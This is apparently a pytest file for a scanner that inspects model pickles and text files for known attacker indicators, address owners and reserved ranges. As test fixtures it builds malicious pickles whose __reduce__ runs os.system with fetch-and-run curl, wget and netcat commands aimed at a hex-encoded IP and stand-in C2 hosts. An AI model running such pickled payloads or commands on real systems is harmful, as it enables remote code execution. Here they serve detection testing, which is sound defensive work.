"""What is shipped: incidents, owners, special ranges; and what a scan makes of it."""

from __future__ import annotations

import datetime as dt
import importlib.resources
import pickle
import re
import tomllib
from pathlib import Path

import pytest

from toadstone.core.finding import Severity
from toadstone.core.panel import make_checks
from toadstone.core.policy import Config, Policy
from toadstone.intel.incidents import by_value, incidents
from toadstone.intel.knowledge import Intelligence, lists_folder
from toadstone.intel.owners import Owner, owner, table_date
from toadstone.intel.special import address_label, name_label
from toadstone.intel.values import canonical
from toadstone.verbs.scan import scan

DATA = importlib.resources.files("toadstone.intel").joinpath("data")


def test_the_bundle_is_of_the_promised_shape():
    table = tomllib.loads(DATA.joinpath("incidents.toml").read_text(encoding="utf-8"))
    assert set(table) == {"incident"}
    assert len(table["incident"]) >= 12
    for entry in table["incident"]:
        assert set(entry) - {"shared"} == {"id", "title", "publisher", "date", "url", "what", "seen", "indicators"}
        assert re.fullmatch(r"[a-z0-9-]+-\d{4}-\d{2}", entry["id"])
        assert isinstance(entry["date"], dt.date)
        assert entry["url"].startswith("https://")
        assert entry["indicators"] or entry["shared"]
        for value in (*entry["indicators"], *entry.get("shared", ())):
            kind, clear = canonical(value)
            assert kind, value
            assert clear == value.rstrip("/"), f"{value} is not in its canonical form"
            assert not address_label(clear)
            assert not name_label(clear), f"{value} is a common service"
    names = [entry["id"] for entry in table["incident"]]
    assert len(names) == len(set(names))


def test_every_published_indicator_is_found_and_named():
    known = Intelligence()
    for (kind, value), reported in by_value().items():
        assert known.matches(kind, value)[0].source == reported[0][0].name
    assert {incident.publisher for incident in incidents()} >= {"JFrog", "ReversingLabs", "PyTorch", "Snyk"}


@pytest.mark.parametrize(
    ("address", "asn", "country"),
    [
        ("210.117.212.93", 1237, "KR"),
        ("136.243.156.120", 24940, "DE"),
        ("107.173.7.141", 36352, "US"),
        ("8.8.8.8", 15169, "US"),
        ("::ffff:8.8.8.8", 15169, "US"),
        ("2001:4860:4860::8888", 15169, "US"),
        ("2002:808:808::1", 15169, "US"),
        ("64:ff9b::808:808", 15169, "US"),
        ("2001:67c:2e8:22::c100:68b", 3333, "NL"),
        ("200.160.2.3", 22548, "BR"),
        ("2001:12ff:0:2::3", 22548, "BR"),
        ("196.216.2.1", 33764, "ZA"),
    ],
)
def test_owners_of_addresses(address, asn, country):
    found = owner(address)
    assert isinstance(found, Owner)
    assert (found.asn, found.country) == (asn, country)
    assert found.organisation


@pytest.mark.parametrize(
    "address", ["203.0.113.7", "10.1.2.3", "127.0.0.1", "0.0.0.0", "255.255.255.255", "2001:db8::1", "::1", "junk", ""]
)
def test_nobody_owns_what_is_reserved(address):
    assert owner(address) is None


def test_the_tables_are_small_and_dated():
    assert (
        sum(len(DATA.joinpath(name).read_bytes()) for name in ("owners-ipv4.xz", "owners-ipv6.xz", "owners-names.xz")) < 5 << 20
    )
    assert dt.date.fromisoformat(table_date()).year >= 2026


@pytest.mark.parametrize(
    ("value", "label"),
    [
        ("8.8.8.8", "public DNS resolver (Google Public DNS)"),
        ("192.0.2.4", "documentation (RFC 5737)"),
        ("2001:db8::4", "documentation (RFC 3849)"),
        ("169.254.169.254", "metadata service of clouds (link-local, RFC 3927)"),
        ("::ffff:10.0.0.1", "private (RFC 1918)"),
        ("93.184.216.34", ""),
        ("junk", ""),
    ],
)
def test_special_addresses(value, label):
    assert address_label(value) == label


def test_special_names():
    assert name_label("cdn-lfs.huggingface.co") == "common service, content by anybody"
    assert name_label("pypi.org") == "common service"
    assert name_label("c2.evil.example") == "reserved for examples (RFC 2606)"
    assert name_label("notpypi.org") == name_label("huggingface.co.evil.ru") == ""


class Command:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        import os

        return os.system, (self.command,)


@pytest.fixture
def folder(tmp_path, monkeypatch) -> Path:
    monkeypatch.setenv("TOADSTONE_INTEL", str(tmp_path / "lists"))
    (tmp_path / "models").mkdir()
    return tmp_path / "models"


def test_a_scan_names_whom_a_payload_calls(folder):
    (folder / "a.pkl").write_bytes(pickle.dumps(Command("curl http://0xd275d45d:4242/x | sh; ping 203.0.113.9")))
    report = scan(folder)
    by_check = {finding.check: finding for finding in report.findings}
    sighted = by_check["known-indicator"]
    assert (sighted.severity, sighted.evidence["form"], sighted.evidence["sources"]) == (Severity.HIGH, "hex", ["JFrog 2024-02"])
    told = {indicator.value: [dict(entry) for entry in indicator.intel] for indicator in by_check["unsafe-import"].indicators}
    assert {entry.get("asn") for entry in told["210.117.212.93"]} == {None, "AS1237"}
    assert told["210.117.212.93"][1]["organisation"] == "KISTI (KREONET)"
    assert told["203.0.113.9"] == [{"source": "warning list", "label": "documentation (RFC 5737)"}]
    assert report.as_dict() == scan(folder).as_dict()


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("connects to h4ck.cfd\n", Severity.MEDIUM),
        ("# IoC\n\nh4ck[.]cfd\n", Severity.LOW),
        ("see https://pypi.org and 8.8.8.8 and 192.0.2.1 and https://huggingface.co/x\n", None),
    ],
)
def test_texts_are_worth_a_look_at_most(folder, text, severity):
    (folder / "README.md").write_text(text)
    findings = scan(folder).findings
    assert [finding.severity for finding in findings] == ([severity] if severity is not None else [])
    if severity is not None:
        assert findings[0].place.row == text[: text.index("h4ck")].count("\n")


def test_the_users_lists_and_their_validity(folder, tmp_path):
    from toadstone.verbs.intel import import_list

    file = tmp_path / "feed.txt"
    file.write_text("c2.partner.example\n")
    import_list(file, tmp_path / "lists", dt.date(2026, 1, 1), valid_days=30)
    (folder / "a.pkl").write_bytes(pickle.dumps(Command("wget -q http://x.c2.partner.example/a")))

    def sources(today: dt.date | None) -> list[object]:
        report = scan(folder, policy=Policy(today=today))
        return [finding.evidence["sources"] for finding in report.findings if finding.check == "known-indicator"]

    assert sources(None) == sources(dt.date(2026, 1, 31)) == [["feed"]]
    assert sources(dt.date(2026, 2, 1)) == []
    quiet = Config(checks={"known-indicator": {"ignore": ["feed"]}})
    assert not [finding for finding in scan(folder, config=quiet).findings if finding.check == "known-indicator"]
    assert make_checks(quiet.checks)


def test_where_lists_are_kept(monkeypatch):
    monkeypatch.delenv("TOADSTONE_INTEL", raising=False)
    monkeypatch.setenv("XDG_DATA_HOME", "/data")
    assert lists_folder() == "/data/toadstone/intel"
    assert lists_folder("/configured") == "/configured"
    monkeypatch.setenv("TOADSTONE_INTEL", "/named")
    assert lists_folder("/configured") == "/named"


def test_a_cached_result_ends_with_the_lists_that_it_came_from(folder, tmp_path):
    from toadstone.verbs.cache import Cache
    from toadstone.verbs.intel import import_list

    (folder / "a.pkl").write_bytes(pickle.dumps([Command("nc c2.partner.example 4444"), "x" * 300_000]))
    config = Config()

    def found() -> bool:
        cache = Cache(tmp_path / "cache", config)
        try:
            return any(finding.check == "known-indicator" for finding in scan(folder, config=config, cache=cache).findings)
        finally:
            cache.close()

    assert not found()
    (tmp_path / "feed.txt").write_text("c2.partner.example\n")
    import_list(tmp_path / "feed.txt", tmp_path / "lists", dt.date(2026, 1, 1))
    assert found()


@pytest.mark.parametrize(
    "text",
    [
        "http://203.0.113.7/a", "203.0.113.7", "203[.]0[.]113[.]7", "evil (dot) example", "evil[dot]example.org",
        "2001:db8::1",
        "ping 2130706433", "curl 0x7f000001/x", "a" * 26, "http:\\/\\/a.example",
        "joe@evil.org", "C:\\Users\\a.exe", "~/.ssh/id_rsa",
        "/etc/passwd", "пример.рф", "http://例え。jp/",
    ],
)  # fmt: skip
def test_the_first_question_lets_every_kind_of_indicator_through(text):
    from toadstone.verbs.sighting import _MAYBE

    assert _MAYBE.search(text)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.py", "x = 1  # see h4ck.cfd"),
        ("requirements.txt", "requests  # see h4ck.cfd"),
        ("c.json", '{"a": "http://x.h4ck.cfd/y"}'),
        ("p.pmml", "<PMML><a>see h4ck.cfd</a></PMML>"),
        ("config.cfg", '[nlp]\nlang = "h4ck.cfd"\n'),
        ("y.yaml", "a: h4ck.cfd"),
        ("README.md", "see h4ck.cfd"),
    ],
)
def test_texts_of_every_kind_are_looked_through(folder, name, content):
    (folder / name).write_text(content)
    assert [finding.check for finding in scan(folder).findings if finding.check == "known-indicator"]
